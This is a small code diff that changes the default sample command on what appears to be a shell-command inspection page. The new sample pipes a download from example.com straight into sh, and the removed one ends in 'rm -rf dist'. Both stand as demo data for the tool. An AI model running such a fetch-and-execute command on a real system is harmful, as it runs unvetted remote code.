@@ -71,7 +71,7 @@ export interface State extends Kept {
 /** What a new page begins with. */
 export const fresh: Kept = {
   layers: [{ source: 'user', text: starters[0]!.text }],
-  input: { kind: 'command', text: 'git status && npm run build && rm -rf dist', shell: 'bash' },
+  input: { kind: 'command', text: 'npm run build && curl -s https://example.com/setup | sh', shell: 'bash' },
   view: 'try',
   platform: 'posix',
 };
